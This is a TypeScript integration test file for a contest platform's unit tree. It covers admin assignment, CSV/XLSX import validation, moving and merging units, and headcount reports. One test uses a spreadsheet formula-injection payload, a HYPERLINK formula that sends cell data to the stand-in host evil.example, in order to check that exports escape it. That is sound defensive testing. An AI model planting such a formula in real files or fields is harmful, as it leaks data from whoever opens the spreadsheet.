import type { INestApplicationContext } from '@nestjs/common';
import ExcelJS from 'exceljs';
import type { DataSource } from 'typeorm';

import { UNIT_SHEET, type UnitAdmins } from '@contest/contracts';
import { createUser, seedAttempts, startWorkerInProcess, testDb } from '@contest/server/testing';
import { GradeAttemptsBatchService } from '@contest/server';
import { startApi, type RunningApi } from './test-support/start-api';

const HEADER = Object.values(UNIT_SHEET.headers).join(',');
const csv = (...lines: string[]) => Buffer.from([HEADER, ...lines].join('\r\n'), 'utf8');

/** The unit tree as an organizer keeps it: imported from a file, edited, merged; reports follow. */
describe('the unit tree', () => {
  let db: DataSource;
  let api: RunningApi;
  let organizer: ReturnType<RunningApi['client']>;
  let contestId: number;
  const tag = String(Date.now()).slice(-6);
  const code = (c: string) => `T${tag}-${c}`;
  const unitByCode = async (c: string) =>
    (
      await db.query(
        `SELECT u.id, u.name, u.level, u.parent_id AS "parentId", p.code AS "parentCode", u.path, u.merged_into_id AS "mergedIntoId",
                u.successor_id AS "successorId"
           FROM units u LEFT JOIN units p ON p.id = u.parent_id WHERE u.code = $1`,
        [c],
      )
    )[0];

  beforeAll(async () => {
    db = await testDb();
    api = await startApi();
    const account = await createUser(db, { role: 'organizer', unitCode: 'QA' });
    organizer = api.client();
    await organizer.login(account.login, account.password);
    [{ contestId }] = await db.query('SELECT min(id) AS "contestId" FROM contests');
  });
  afterAll(async () => {
    await api.close();
    await db.destroy();
  });

  it("makes one of a unit's own people its admin, who then signs in as one, and takes the role back", async () => {
    const person = await createUser(db, { role: 'participant', unitCode: 'QA-S09' });
    const stranger = await createUser(db, { role: 'participant', unitCode: 'QA-S10' });
    const judge = await createUser(db, { role: 'judge', unitCode: 'QA-S09' });
    const [{ id: unitId }] = await db.query(`SELECT id FROM units WHERE code = 'QA-S09'`);
    const other = await organizer.post(`/units/${unitId}/admins`, { login: stranger.login });
    expect(other.status).toBe(409);
    expect(other.body.code).toBe('unit_admin_other_unit');
    const notParticipant = await organizer.post(`/units/${unitId}/admins`, { login: judge.login });
    expect(notParticipant.body.code).toBe('unit_admin_not_participant');
    const nobody = await organizer.post(`/units/${unitId}/admins`, { login: '0999999999' });
    expect(nobody.status).toBe(404);
    // The organizer picks from the unit's own people: its participants, not another unit's, nor a judge.
    const before = (await organizer.get<UnitAdmins>(`/units/${unitId}/admins`)).body;
    const offered = before.candidates.map((c) => c.id);
    expect(offered).toContain(person.id);
    expect(offered).not.toContain(stranger.id);
    expect(offered).not.toContain(judge.id);
    expect(before.candidates.find((c) => c.id === person.id)?.login).toBe(person.login);
    const made = await organizer.post<UnitAdmins>(`/units/${unitId}/admins`, { login: person.login });
    expect(made.status).toBe(200);
    expect(made.body.items.map((i) => i.id)).toContain(person.id);
    expect(made.body.candidates.map((c) => c.id)).not.toContain(person.id);
    // The new admin signs in as one and sees the unit's people.
    const admin = api.client();
    await admin.login(person.login, person.password);
    expect((await admin.get('/auth/me')).body.user.role).toBe('unit_admin');
    const removed = await organizer.request('DELETE', `/units/${unitId}/admins/${person.id}`);
    expect(removed.status).toBe(200);
    expect(removed.body.items.map((i: { id: number }) => i.id)).not.toContain(person.id);
    const [row] = await db.query('SELECT role, unit_id AS "unitId" FROM users WHERE id = $1', [person.id]);
    expect(row).toEqual({ role: 'participant', unitId });
    expect((await organizer.request('DELETE', `/units/${unitId}/admins/${person.id}`)).status).toBe(404);
    const [{ n }] = await db.query(
      `SELECT count(*)::int AS n FROM audit_log WHERE action LIKE 'unit.admin_%' AND entity_id = $1`,
      [unitId],
    );
    expect(n).toBe(2);
  });

  it('reports every problem of a tree file, row and column, and changes nothing', async () => {
    const before = await db.query('SELECT count(*)::int AS n FROM units');
    const r = await organizer.upload(
      `/units/import?format=csv&contestId=${contestId}`,
      csv(
        `${code('A')},Sở A,Sở ban ngành,QA,10`,
        `${code('A')},Sở A lần hai,Sở ban ngành,QA,10`,
        `${code('B')},Phường B,Cấp xã,${code('NOPE')},5`,
        `${code('C')},Xã C,Cấp xã,${code('D')},-3`,
        `${code('D')},Xã D,Cấp xã,${code('C')},`,
        `${code('E')},,Phường,QA,7`,
        `bad code!,Tên,Cấp xã,QA,1`,
      ),
    );
    expect(r.status).toBe(200);
    expect(r.body.ok).toBe(false);
    expect(
      r.body.problems.map((p: { row: number; column: string; code: string }) => [p.row, p.column, p.code]),
    ).toEqual([
      [3, 'Mã đơn vị', 'unit_duplicate_code'],
      [5, 'Số CBCCVC', 'headcount_invalid'],
      [6, 'Số CBCCVC', 'headcount_missing'],
      [7, 'Tên đơn vị', 'unit_name_missing'],
      [7, 'Cấp', 'unit_level_invalid'],
      [8, 'Mã đơn vị', 'unit_code_invalid'],
      [4, 'Mã đơn vị cấp trên', 'unit_parent_unknown'],
    ]);
    expect(await db.query('SELECT count(*)::int AS n FROM units')).toEqual(before);

    // A cycle only shows once every row is otherwise clean.
    const cycle = await organizer.upload(
      `/units/import?format=csv&contestId=${contestId}`,
      csv(`${code('C')},Xã C,Cấp xã,${code('D')},3`, `${code('D')},Xã D,Cấp xã,${code('C')},4`),
    );
    expect(cycle.body.problems).toEqual([
      expect.objectContaining({
        row: 2,
        code: 'unit_cycle',
        params: { codes: `${code('C')} → ${code('D')} → ${code('C')}` },
      }),
    ]);
  });

  it('imports a clean file (XLSX or CSV), names with commas and NFD tone marks included, updating known codes', async () => {
    const nfd = 'Phường Hòa Bình'.normalize('NFD');
    const first = await organizer.upload(
      `/units/import?format=csv&contestId=${contestId}`,
      csv(
        `${code('H')},"Huyện Đông, Tây",Cấp huyện,QA,"1.200"`,
        `${code('X1')},${nfd},cấp xã,${code('H')},40`,
        `${code('X2')},Xã Tân Phú,commune,${code('H')},35`,
      ),
    );
    expect(first.body).toMatchObject({ ok: true, imported: 3, created: 3, updated: 0 });
    const x1 = await unitByCode(code('X1'));
    expect(x1.name).toBe('Phường Hòa Bình'.normalize('NFC'));
    expect(x1.parentCode).toBe(code('H'));
    expect((await unitByCode(code('H'))).name).toBe('Huyện Đông, Tây');

    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Đơn vị');
    sheet.addRow(Object.values(UNIT_SHEET.headers));
    sheet.addRow([code('X2'), 'Phường Tân Phú', 'Cấp xã', code('H'), 36]);
    const second = await organizer.upload(
      `/units/import?format=xlsx&contestId=${contestId}`,
      Buffer.from(await book.xlsx.writeBuffer()),
    );
    expect(second.body).toMatchObject({ ok: true, imported: 1, created: 0, updated: 1 });
    const tree = (await organizer.get(`/units/tree?contestId=${contestId}`)).body;
    expect(tree.units.find((u: { code: string }) => u.code === code('X2'))).toMatchObject({
      name: 'Phường Tân Phú',
      headcount: 36,
    });
    expect(tree.units.find((u: { code: string }) => u.code === code('H')).headcount).toBe(1200);

    const exported = await organizer.download(`/units/export?contestId=${contestId}`);
    const back = new ExcelJS.Workbook();
    await back.xlsx.load(exported.bytes as unknown as ArrayBuffer);
    const rows = back.worksheets[0].getSheetValues().map((v) => (Array.isArray(v) ? v.slice(1) : v));
    expect(rows).toContainEqual([code('X2'), 'Phường Tân Phú', 'Cấp xã', code('H'), 36]);
  });

  it('moves and renames units, and refuses a move into its own subtree', async () => {
    const h = await unitByCode(code('H'));
    const x1 = await unitByCode(code('X1'));
    const refused = await organizer.put(`/units/${h.id}`, { parentId: x1.id });
    expect(refused.status).toBe(422);
    expect(refused.body.code).toBe('unit_move_into_own_subtree');
    const created = await organizer.post('/units', {
      code: code('N'),
      name: 'Trường THPT Mới',
      level: 'school',
      parentId: h.id,
      contestId,
      headcount: 12,
    });
    expect(created.status).toBe(201);
    expect(
      (await organizer.post('/units', { ...created.body, code: code('N'), contestId, headcount: 1 })).status,
    ).toBe(409);
    const moved = await organizer.put(`/units/${created.body.id}`, {
      parentId: x1.id,
      name: 'Trường THPT Hòa Bình',
    });
    expect(moved.status).toBe(200);
    const n = await unitByCode(code('N'));
    expect(n.path).toBe(`${x1.path}${n.id}/`);
    expect(n.name).toBe('Trường THPT Hòa Bình');
  });

  it('merges a unit: the cycle refused with its reason, history kept, earlier contests adding up under the new tree', async () => {
    const h = await unitByCode(code('H'));
    const x1 = await unitByCode(code('X1'));
    const x2 = await unitByCode(code('X2'));
    const intoChild = await organizer.post(`/units/${h.id}/merge`, { intoUnitId: x1.id });
    expect(intoChild.status).toBe(422);
    expect(intoChild.body.code).toBe('unit_merge_into_descendant');
    expect(intoChild.body.message).toContain('vòng lặp');

    // An earlier contest, already over, in which X1's and X2's people took part.
    const [{ id: earlier }] = await db.query(
      `INSERT INTO contests (name, year, topics, prize_counts) SELECT 'Năm trước ' || $1, 2025, topics, prize_counts FROM contests WHERE id = $2 RETURNING id`,
      [tag, contestId],
    );
    await db.query(
      `INSERT INTO questions (contest_id, text, options, correct_option, topic, difficulty)
       SELECT $1::int, text || ' ' || $1::text, options, correct_option, topic, difficulty FROM questions WHERE contest_id = $2`,
      [earlier, contestId],
    );
    const [{ topic }] = await db.query(
      'SELECT topic FROM questions WHERE contest_id = $1 GROUP BY topic ORDER BY count(*) DESC LIMIT 1',
      [earlier],
    );
    const [{ id: roundId }] = await db.query(
      `INSERT INTO rounds (contest_id, week_number, name, opens_at, closes_at, question_count, time_limit_seconds, selection, attempts_allowed)
       VALUES ($1, 1, 'Tuần 1', now() - interval '2 days', now() - interval '1 day', 5, 600, $2, 1) RETURNING id`,
      [earlier, JSON.stringify({ mode: 'quota', quotas: [{ topic, count: 5 }] })],
    );
    await db.query(
      `INSERT INTO unit_headcounts (contest_id, unit_id, headcount) VALUES ($1, $2, 50), ($1, $3, 30)`,
      [earlier, x1.id, x2.id],
    );
    const expected = await seedAttempts(db, roundId, 24, 'submitted', { unitIds: [x1.id, x2.id, x2.id] });
    const worker: INestApplicationContext = await startWorkerInProcess();
    try {
      await worker.get(GradeAttemptsBatchService).gradeAttemptsBatch([...expected.keys()]);
    } finally {
      await worker.close();
    }
    const report = async () => (await organizer.get(`/reports/contests/${earlier}`)).body;
    const beforeMerge = await report();
    const figuresOf = (
      r: { units: { unitId: number; participants: number; headcount: number }[] },
      id: number,
    ) => r.units.find((u) => u.unitId === id);
    expect(figuresOf(beforeMerge, x1.id)).toMatchObject({ participants: 8, headcount: 50 });
    expect(figuresOf(beforeMerge, x2.id)).toMatchObject({ participants: 16, headcount: 30 });

    // X1 also has an account and a roster of three: one person of X1 itself, two of its school N.
    // After the merge they belong to X2, and the dialog's count beforehand is the count that moves.
    const person = await createUser(db, { unitCode: code('X1') });
    const n = await unitByCode(code('N'));
    await db.query(
      `INSERT INTO roster_entries (roster_unit_id, unit_id, full_name, phone)
       VALUES ($1, $1, 'Người Xã Một', '0987000111'), ($1, $2, 'Cô Giáo Một', '0987000112'),
              ($1, $2, 'Thầy Giáo Hai', '0987000113')`,
      [x1.id, n.id],
    );
    const treeBefore = (await organizer.get(`/units/tree?contestId=${contestId}`)).body;
    expect(treeBefore.units.find((u: { id: number }) => u.id === x1.id)).toMatchObject({
      rosterEntries: 1,
      rosterEntriesToMove: 3,
    });
    const merged = await organizer.post(`/units/${x1.id}/merge`, { intoUnitId: x2.id });
    expect(merged.status).toBe(200);
    expect(merged.body.moved).toEqual({ children: 1, accounts: 1 + 8, rosterEntries: 3 });
    expect(
      await db.query('SELECT DISTINCT roster_unit_id AS id FROM roster_entries WHERE phone LIKE $1', [
        '098700011%',
      ]),
    ).toEqual([{ id: x2.id }]);
    expect((await unitByCode(code('N'))).parentId).toBe(x2.id);
    expect((await db.query('SELECT unit_id FROM users WHERE id = $1', [person.id]))[0].unit_id).toBe(x2.id);
    const x1After = await unitByCode(code('X1'));
    expect(x1After).toMatchObject({ mergedIntoId: x2.id, successorId: x2.id });
    // The attempts keep their unit: history is not rewritten.
    expect((await db.query('SELECT count(*)::int AS n FROM attempts WHERE unit_id = $1', [x1.id]))[0].n).toBe(
      8,
    );

    const afterMerge = await report();
    expect(figuresOf(afterMerge, x1.id)).toBeUndefined();
    expect(figuresOf(afterMerge, x2.id)).toMatchObject({ participants: 24, headcount: 80 });
    expect(afterMerge.totals.participants).toBe(beforeMerge.totals.participants);
    const district = figuresOf(afterMerge, h.id)!;
    expect(district.participants).toBe(24);

    // The merged unit is gone from search and registration, and cannot be merged again.
    const search = (await api.client().get(`/units?q=${encodeURIComponent(code('X1'))}`)).body;
    expect(search.items).toEqual([]);
    const again = await organizer.post(`/units/${x1.id}/merge`, { intoUnitId: h.id });
    expect(again.status).toBe(422);
    expect(again.body.code).toBe('unit_merged');
    const tree = (await organizer.get(`/units/tree?contestId=${contestId}`)).body;
    expect(tree.merged.find((m: { id: number }) => m.id === x1.id)).toMatchObject({ successorId: x2.id });
  });
  it('writes a name that starts like a formula into every XLSX as text, and imports it back unchanged', async () => {
    const formulaName = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào")';
    const h = await unitByCode(code('H'));
    const created = await organizer.post('/units', {
      code: code('F'),
      name: formulaName,
      level: 'commune',
      parentId: h.id,
      contestId,
      headcount: 4,
    });
    expect(created.status).toBe(201);

    const exported = await organizer.download(`/units/export?contestId=${contestId}`);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(exported.bytes as unknown as ArrayBuffer);
    const sheet = book.worksheets[0];
    const row = sheet.getRows(2, sheet.rowCount - 1)!.find((r) => r.getCell(1).value === code('F'))!;
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(2).value).toBe(`'${formulaName}`);

    const report = await organizer.download(`/reports/contests/${contestId}/xlsx`);
    const reportBook = new ExcelJS.Workbook();
    await reportBook.xlsx.load(report.bytes as unknown as ArrayBuffer);
    const cells = reportBook.worksheets.flatMap((ws) =>
      ws.getSheetValues().flatMap((r) => (Array.isArray(r) ? r : [])),
    );
    expect(cells).toContain(`'${formulaName}`);
    expect(cells).not.toContain(formulaName);

    // The export is the import's template: the mark comes off again, the name stays as it was.
    for (let r = sheet.rowCount; r >= 2; r--)
      if (sheet.getRow(r).getCell(1).value !== code('F')) sheet.spliceRows(r, 1);
    const again = await organizer.upload(
      `/units/import?format=xlsx&contestId=${contestId}`,
      Buffer.from(await book.xlsx.writeBuffer()),
    );
    expect(again.body).toMatchObject({ ok: true, problems: [] });
    expect((await unitByCode(code('F'))).name).toBe(formulaName);
  });

  it('says which units a report leaves out of the units taking part because their headcount is 0', async () => {
    const h = await unitByCode(code('H'));
    const zero = await organizer.post('/units', {
      code: code('Z'),
      name: 'Tổ công tác không biên chế',
      level: 'other',
      parentId: h.id,
      contestId,
      headcount: 0,
    });
    expect(zero.status).toBe(201);
    const report = (await organizer.get(`/reports/contests/${contestId}`)).body;
    expect(report.unitsWithoutHeadcount).toContainEqual({
      unitId: zero.body.id,
      code: code('Z'),
      name: 'Tổ công tác không biên chế',
      level: 'other',
      parentName: 'Huyện Đông, Tây',
      headcount: 0,
      participants: 0,
    });
    expect(report.units.some((u: { unitId: number }) => u.unitId === zero.body.id)).toBe(true);
    const counted = report.units.filter((u: { unitId: number }) =>
      report.unitsWithoutHeadcount.every((left: { unitId: number }) => left.unitId !== u.unitId),
    ).length;
    expect(report.totals.units).toBe(counted);

    // The public board names each unit's parent, so two units of one name can be told apart.
    const board = (await api.client().get(`/units-board?contestId=${contestId}`)).body;
    const x2 = await unitByCode(code('X2'));
    expect(board.overall.find((r: { unitId: number }) => r.unitId === x2.id)).toMatchObject({
      parentName: 'Huyện Đông, Tây',
    });
  });
});
